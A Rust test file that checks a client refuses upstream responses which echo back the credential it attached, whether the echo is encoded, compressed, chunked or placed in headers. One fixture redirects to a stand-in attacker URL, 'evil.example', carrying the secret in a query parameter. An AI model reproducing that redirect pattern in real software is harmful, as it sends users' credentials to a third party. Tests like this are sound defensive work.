//! Upstreams that send the credential back.

use std::io::Write as _;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use flate2::Compression;
use flate2::write::{GzEncoder, ZlibEncoder};

use super::upstream::{chunk, chunked_head};
use super::*;
use crate::refusal::RequestSent;

/// The secret as the upstream saw it.
fn seen(request: &str) -> String {
    header(request, "authorization").unwrap().split_once(' ').unwrap().1.to_owned()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

async fn leaks(lines: &str, script: impl Fn(&str) -> Vec<Act> + Send + Sync + 'static) {
    let failure = World::new(lines, script).await.get().await.unwrap_err();
    assert_eq!((failure.reason, failure.request_sent), (FailureReason::ResponseRefused, RequestSent::Yes));
    assert!(failure.message.contains("sent the credential back"), "{failure:?}");
}

#[tokio::test]
async fn in_the_body() {
    leaks("", |request| reply(200, &[], format!("{{\"headers\": {:?}}}", seen(request)))).await;
    leaks("", |request| reply(500, &[], request)).await;
    leaks("", |request| reply(200, &[], STANDARD.encode(request))).await;
    leaks("", |request| reply(200, &[], hex::encode_upper(request))).await;
    leaks("", |request| reply(200, &[], seen(request).chars().rev().collect::<String>())).await;
    leaks("", |request| {
        let escaped: String = seen(request).bytes().map(|b| format!("\\u{b:04x}")).collect();
        reply(200, &[], format!("\"{escaped}\""))
    })
    .await;
}

#[tokio::test]
async fn in_a_header_even_one_that_would_be_dropped() {
    leaks("", |request| reply(200, &[("x-echo", &seen(request))], "")).await;
    leaks("", |request| {
        reply(302, &[("location", &format!("https://evil.example/?k={}", seen(request)))], "")
    })
    .await;
    leaks("", |request| reply(200, &[("set-cookie", &format!("k={}", seen(request)))], "")).await;
    leaks("", |request| reply(200, &[(&seen(request).to_lowercase(), "1")], "")).await;
}

#[tokio::test]
async fn compressed() {
    leaks("", |request| reply(200, &[("content-encoding", "gzip")], gzip(request.as_bytes()))).await;
    leaks("", |request| {
        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(request.as_bytes()).unwrap();
        reply(200, &[("content-encoding", "deflate")], encoder.finish().unwrap())
    })
    .await;
    // The second member of a gzip stream is part of the body too.
    leaks("", |request| {
        let members = [gzip(b"nothing here"), gzip(seen(request).as_bytes())].concat();
        reply(200, &[("content-encoding", "GZIP")], members)
    })
    .await;
}

#[tokio::test]
async fn in_a_body_that_is_searched_aside() {
    let long = |request: &str| "a".repeat(SHORT_BYTES_MAX) + &seen(request);
    leaks("", move |request| reply(200, &[], long(request))).await;
    leaks("", move |request| reply(200, &[("content-encoding", "gzip")], gzip(long(request).as_bytes())))
        .await;
    leaks("", |request| reply(200, &[("x-echo", &seen(request))], "a".repeat(SHORT_BYTES_MAX + 1))).await;
}

#[tokio::test]
async fn split_over_chunks() {
    leaks("", |request| {
        let mut acts = vec![chunked_head()];
        for byte in seen(request).bytes() {
            acts.push(Act::Send(chunk([byte])));
            acts.push(Act::Wait(Duration::from_millis(1)));
        }
        acts.push(Act::Send(chunk("")));
        acts
    })
    .await;
}

#[tokio::test]
async fn of_the_other_kinds() {
    leaks("attach = { kind = \"basic\" }", |request| reply(200, &[], seen(request))).await;
    leaks("attach = { kind = \"basic\" }", |request| reply(200, &[], hex::encode(seen(request)))).await;
    leaks("attach = { kind = \"basic\", user = \"api\" }", |request| {
        reply(200, &[], STANDARD.decode(seen(request)).unwrap())
    })
    .await;
    leaks("attach = { kind = \"header\", name = \"x-api-key\" }", |request| {
        reply(200, &[], header(request, "x-api-key").unwrap())
    })
    .await;
    leaks("attach = { kind = \"query\", name = \"key\" }", |request| reply(200, &[], request)).await;
}

#[tokio::test]
async fn a_failure_s_cause_holds_none_of_it() {
    // `World::send` checks that nothing holds it; the request's URL does.
    let world = World::new("attach = { kind = \"query\", name = \"key\" }", |_| vec![Act::HangUp]).await;
    assert!(world.get().await.unwrap_err().cause.is_some());
}

#[tokio::test]
async fn cookies_are_never_handed_over() {
    let world = World::new("response_headers = [\"x-ok\"]", |_| {
        reply(200, &[("set-cookie", "session=1"), ("x-ok", "1"), ("server", "x")], "")
    })
    .await;
    assert_eq!(world.get().await.unwrap().headers, [("x-ok".to_owned(), "1".to_owned())]);
}

#[tokio::test]
async fn what_looks_like_a_key_and_is_not_passes() {
    let world = World::new("", |_| reply(200, &[], "sk_live_0123456789abcdefghijklmn Bearer x")).await;
    assert!(world.get().await.is_ok());
}
